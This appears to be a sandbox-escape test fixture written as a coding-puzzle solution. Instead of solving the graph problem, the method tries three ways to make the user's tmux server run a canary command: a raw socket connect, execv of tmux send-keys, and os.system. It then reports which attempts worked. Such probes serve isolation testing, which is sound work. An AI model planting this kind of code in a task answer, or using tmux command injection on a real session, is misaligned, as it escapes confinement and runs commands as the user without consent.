# tmux: the user's tmux server (a private socket here) told to run a command
# as the user: by the socket itself, by the tmux program, by os.system
import struct


class Solution:
    def validPath(self, n, edges, source, destination):
        tried = []
        cmd = "touch @DIR@/pwned-tmux"
        s = libc.socket(1, 1, 0)
        tried.append("socket:" + errno_of(s))
        addr = struct.pack("H108s", 1, b"@DIR@/tmux.sock")
        tried.append("connect:" + errno_of(libc.connect(s, addr, len(addr))))
        argv = (ctypes.c_char_p * 8)(b"tmux", b"-S", b"@DIR@/tmux.sock", b"send-keys",
                                     cmd.encode(), b"Enter", None)
        tried.append("execv:" + errno_of(libc.execv(b"/usr/bin/tmux", argv)))
        try:
            tried.append("os.system:%r" % os.system("tmux -S @DIR@/tmux.sock send-keys '%s' Enter"
                                                   % cmd))
        except BaseException as e:
            tried.append("os.system:" + type(e).__name__)
        raise RuntimeError(" ".join(tried))
